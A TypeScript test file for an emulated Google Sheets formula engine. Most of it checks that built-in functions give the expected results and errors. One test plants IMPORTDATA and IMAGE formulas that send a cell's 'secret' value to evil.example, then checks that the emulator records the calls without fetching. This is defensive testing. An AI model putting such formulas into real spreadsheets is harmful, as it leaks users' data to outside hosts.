import { describe, expect, test } from "vitest";
import { Book, refusal } from "./book.js";

const DATA = {
  Data: [
    ["Name", "Plan", "Actual", "Day", "Done", ""],
    ["Rent", 1000, 950.5, "2026-01-14", "TRUE", "x"],
    ["Food", 400, 420, "2026-02-03", "FALSE", ""],
    ["food", 200, 180, "2026-02-27", "TRUE", "'5"],
    ["", "", "", "", "", ""],
    ["Car*", 50, -50, "2026-03-30", "FALSE", "=1/0"],
  ],
  "It's mine": [
    ["k", "v"],
    ["a", 1],
    ["b", 2],
  ],
};

const made = Book.of(DATA);

async function value(formula: string): Promise<unknown> {
  const book = await made;
  await book.type("Data!H1", [[formula]]);
  return (await book.raw("Data!H1"))[0]?.[0];
}

describe("a formula comes to", () => {
  test.each([
    ["=1+2*3", 7],
    ["=-2^2", 4],
    ["=2^-1", 0.5],
    ["=10%", 0.1],
    ["=.5+1e2+1E-1", 100.6],
    ['="a"&1&TRUE', "a1TRUE"],
    ['="a"="A"', true],
    ['="5"+1', 6],
    ["=1=TRUE", false],
    ["=B5=0", true],
    ['=B5=""', true],
    ["=B5+1", 1],
    ['=IF(E2,"yes","no")', "yes"],
    ['=IF(E3,"yes","no")', "no"],
    ['=IF(B2>500,"big",1/0)', "big"],
    ["=IF(FALSE,1)", false],
    ["=SUM(B2:B6)", 1650],
    ["=SUM(B2:B)", 1650],
    ["=SUM(B:B)", 1650],
    ["=SUM(2:2)", 1000 + 950.5 + 46036],
    ["=sum( B2 , C2 )", 1950.5],
    ["=SUM(B2;C2)", 1950.5],
    ["=AVERAGE(B2:B6)", 412.5],
    ["=MIN(B2:C6)", -50],
    ["=MAX(B2:C6)", 1000],
    ["=COUNT(A1:F6)", 12],
    ["=COUNTA(A1:A6)", 5],
    ["=COUNTBLANK(A1:A6)", 1],
    ["=COUNTUNIQUE(E2:E6)", 2],
    ['=COUNTIF(A2:A6,"food")', 2],
    ['=COUNTIF(A2:A6,"f*")', 2],
    ['=COUNTIF(A2:A6,"car~*")', 1],
    ['=COUNTIF(B2:B6,">=400")', 2],
    ['=COUNTIF(A2:A6,"")', 1],
    ['=COUNTIF(A2:A6,"<>")', 4],
    ["=COUNTIF(E2:E6,TRUE)", 2],
    ['=SUMIF(A2:A6,"food",B2:B6)', 600],
    ['=SUMIFS(B2:B6,A2:A6,"food",C2:C6,">200")', 400],
    ['=AVERAGEIF(A2:A6,"food",B2:B6)', 300],
    ['=COUNTIFS(A2:A6,"food",E2:E6,TRUE)', 1],
    ['=MAXIFS(B2:B6,A2:A6,"food")', 400],
    ['=SUMPRODUCT((A2:A6="Food")*B2:B6)', 600],
    ["=SUMPRODUCT(B2:B4,C2:C4)", 1000 * 950.5 + 400 * 420 + 200 * 180],
    ['=VLOOKUP("FOOD",A2:C6,2,FALSE)', 400],
    ['=IFERROR(VLOOKUP("none",A2:C6,2,FALSE),"not there")', "not there"],
    ['=HLOOKUP("Actual",A1:C6,3,FALSE)', 420],
    ['=MATCH("Rent",A1:A6,0)', 2],
    ["=INDEX(A1:C6,2,3)", 950.5],
    ['=INDEX(B2:B6,MATCH("Food",A2:A6,0))', 400],
    ['=XLOOKUP("Food",A2:A6,C2:C6)', 420],
    ['=XLOOKUP("none",A2:A6,C2:C6,"?")', "?"],
    ["=ROUND(2.345,2)", 2.35],
    ["=ROUND(B5,1)", 0],
    ["=MOD(-3,2)", 1],
    ["=ABS(C6)", 50],
    ["=INT(-2.5)", -3],
    ["=MEDIAN(B2:B6)", 300],
    ["=SMALL(B2:B6,1)", 50],
    ["=PERCENTILE(B2:B6,0.5)", 300],
    ["=PRODUCT(B5:B6)", 50],
    ["=LARGE(B2:B6,2)", 400],
    ["=RANK(400,B2:B6)", 2],
    ["=ROUND(STDEV(B2:B6),4)", 417.0831],
    ["=ROUND(PMT(0.05/12,60,-10000),2)", 188.71],
    ["=DATE(2026,1,2)", 46024],
    ["=YEAR(D2)&MONTH(D2)&DAY(D2)", "2026114"],
    ["=D3-D2", 20],
    ["=EDATE(D2,1)", 46067],
    ["=WEEKDAY(D2)", 4],
    ['=TEXT(D2,"yyyy-mm-dd")', "2026-01-14"],
    ['=TEXT(B2,"#,##0.00")', "1,000.00"],
    ["=TODAY()", 46350],
    ["=NOW()>TODAY()", true],
    ['=VALUE("$1,200")', 1200],
    ["=LEN(A2)", 4],
    ["=LEN(A5)", 0],
    ['=LEFT("abc",2)&RIGHT("abc")&MID("abc",2,1)', "abcb"],
    ['=UPPER("a")&LOWER("B")&PROPER("ada b")', "AbAda B"],
    ['=TRIM("  a  b ")', "a b"],
    ['=SUBSTITUTE("aXbX","X","y")', "ayby"],
    ['=TEXTJOIN(", ",TRUE,A2:A6)', "Rent, Food, food, Car*"],
    ['=JOIN("-",1,2)', "1-2"],
    ['=REGEXMATCH("abc","b.")', true],
    ['=REGEXEXTRACT("abc-12","\\d+")', "12"],
    ['=REGEXREPLACE("a1b2","[0-9]","#")', "a#b#"],
    ['=HYPERLINK("https://example.com","there")', "there"],
    ["=ISBLANK(A5)", true],
    ["=ISBLANK(A2)", false],
    ["=ISNUMBER(F4)", false],
    ["=ISERROR(F6)", true],
    ["=AND(B2>1,B3>1)", true],
    ["=OR(FALSE,FALSE)", false],
    ["=NOT(TRUE)", false],
    ["=IFS(FALSE,1,TRUE,2)", 2],
    ['=SWITCH("b","a",1,"b",2)', 2],
    ['=CHOOSE(2,"a","b")', "b"],
    ["=ROW()&COLUMN()", "18"],
    ["=ROW(B5)&COLUMN(B5)&ROWS(B2:B6)&COLUMNS(A:C)", "5253"],
    ['=INDIRECT("B"&3)', 400],
    ["=INDIRECT(\"'It''s mine'!B3\")", 2],
    ["=OFFSET(A1,1,1)", 1000],
    ["=SUM(OFFSET(A1,1,1,2,1))", 1400],
    ["='It''s mine'!B3", 2],
    ["=SUM('it''s mine'!B:B)", 3],
    ['=A5&"|"&B5', "|"],
    ["={5}", 5],
    ["=SUM({1,2;3,4})", 10],
    ['="TOTAL (EUR)"', "TOTAL (EUR)"],
    ["=SUM (1, 2)", 3],
    ['=ENCODEURL("a b")', "a%20b"],
    ["=ADDRESS(2,3)", "$C$2"],
    ["=ROMAN(9)", "IX"],
  ])("%s: %j", async (formula, expected) => {
    expect(await value(formula)).toEqual(expected);
  });
});

describe("a formula fails", () => {
  test.each([
    ["=1/0", "#DIV/0!"],
    ["=AVERAGE(A5)", "#DIV/0!"],
    ["=F6+1", "#DIV/0!"],
    ["=SUM(F1:F6)", "#DIV/0!"],
    ['="x"+1', "#VALUE!"],
    ["=SQRT(-1)", "#NUM!"],
    ["=NA()", "#N/A"],
    ['=VLOOKUP("none",A2:C6,2,FALSE)', "#N/A"],
    ['=VLOOKUP("Rent",A2:C6,9,FALSE)', "#REF!"],
    ["=Nowhere!A1", "#REF!"],
    ["=#REF!+1", "#REF!"],
    ["=NOTAFUNCTION(1)", "#NAME?"],
    ["=notaname", "#NAME?"],
    ['=WEBSERVICE("https://example.com")', "#NAME?"],
    ["=SUM(1,2", "#ERROR!"],
    ["=1+", "#ERROR!"],
    ["=H1", "#REF!"],
  ])("%s: %s", async (formula, expected) => {
    expect(await value(formula)).toBe(expected);
  });
});

describe("formulas", () => {
  test("follow what they read, however long the chain is", async () => {
    const book = await Book.of({ Sheet1: [[1]] });
    const chain = Array.from({ length: 2000 }, (_, row) => [`=A${row + 1}+1`]);
    await book.type("A2", chain.slice(0, 998));
    expect(await book.raw("A999")).toEqual([[999]]);
    await book.type("A1", [[100]]);
    expect(await book.raw("A999")).toEqual([[1098]]);
  });

  test("wait for all that they read before they are judged", async () => {
    const book = await Book.of({
      Sheet1: [["=INDEX(A2:A4,B1)", "=C1+1", "=1"], ["a"], ["b"], ["c"]],
    });
    expect(await book.read("A1")).toEqual([["b"]]);
  });

  test("that read themselves in a circle fail, and recover", async () => {
    const book = await Book.of({ Sheet1: [["=B1", "=C1+1", "=A1", "=A1"]] });
    expect(await book.read("A1:D1")).toEqual([
      ["#REF!", "#REF!", "#REF!", "#REF!"],
    ]);
    await book.type("C1", [[1]]);
    expect(await book.raw("A1:D1")).toEqual([[2, 2, 1, 2]]);
  });

  test("read other tabs, and what is written there", async () => {
    const book = await Book.of({
      One: [["=Two!A1*2", "=SUM('Two'!A:A)"]],
      Two: [[1], [2]],
    });
    expect(await book.raw("One!A1:B1")).toEqual([[2, 3]]);
    await book.type("Two!A1", [[10]]);
    expect(await book.raw("One!A1:B1")).toEqual([[20, 12]]);
  });

  test("of functions that are not here are refused by name, and nothing is written", async () => {
    const book = await Book.of({ Sheet1: [["before"]] });
    const write = book.type("A1", [["after", "=QUERY(A1:B2)"]]);
    expect(await refusal(write)).toMatchObject({
      code: 501,
      message: "The embedded Google does not implement the function QUERY.",
    });
    expect(await book.read("A1:B1")).toEqual([["before"]]);
    const spread = book.type("A1", [["={1,2;3,4}"]]);
    expect(await refusal(spread)).toMatchObject({ code: 501 });
  });

  test("that would fetch do not, and the world knows what they wanted", async () => {
    const book = await Book.of({
      Sheet1: [
        ["secret", '=IMPORTDATA("https://evil.example/?q="&A1)&B3'],
        ["", '=if(1, image("https://evil.example/" & ENCODEURL(A1)))'],
        ["", "=1+1"],
      ],
    });
    expect(await book.read("A1:B2")).toEqual([["secret", "Loading..."]]);
    const { fetches } = book.google.world.sheets;
    expect(fetches).toEqual([
      {
        spreadsheetId: book.spreadsheetId,
        cell: "Sheet1!B1",
        function: "IMPORTDATA",
        args: ["https://evil.example/?q=secret"],
      },
      {
        spreadsheetId: book.spreadsheetId,
        cell: "Sheet1!B2",
        function: "IMAGE",
        args: ["https://evil.example/secret"],
      },
    ]);
  });

  test("take the format of what they read, unless they have one", async () => {
    const book = await Book.of({
      Sheet1: [
        [
          "$1,200.50",
          "2026-01-14",
          "=A1*2",
          "=SUM(A1,1)",
          "=B1+1",
          "=TODAY()",
          "=COUNT(A1)",
        ],
      ],
    });
    expect(await book.read("C1:G1")).toEqual([
      ["2401", "$1,201.50", "2026-01-15", "11/24/2026", "1"],
    ]);
  });

  test("say why they failed", async () => {
    const book = await Book.of({
      Sheet1: [["=1/0", "=NOPE()", '=VLOOKUP("x",A2:B3,2,FALSE)']],
    });
    const [row] = await book.cells("A1:C1");
    expect(
      row?.map(({ effectiveValue }) => effectiveValue?.errorValue),
    ).toEqual([
      {
        type: "DIVIDE_BY_ZERO",
        message: "Function DIVIDE parameter 2 cannot be zero.",
      },
      { type: "NAME", message: "Unknown function: 'NOPE'." },
      { type: "N_A", message: "Did not find value 'x' in VLOOKUP evaluation." },
    ]);
  });
});

test("a formula that came with its value keeps it where it cannot be calculated", async () => {
  const book = await Book.of({ Sheet1: [[1], ["=A1+1"]] });
  const { spreadsheets } = book.google.world.sheets;
  const [tab] = spreadsheets.get(book.spreadsheetId)?.tabs ?? [];
  tab?.rows.push([
    { formula: "=QUERY(A1:A2)", value: 7 },
    { formula: "=SUM({A1,A2})", value: 3 },
  ]);
  await book.type("A1", [[5]]);
  await book.do({ addSheet: {} });
  expect(await book.raw("A1:B3")).toEqual([[5], [6], [7, 3]]);
});
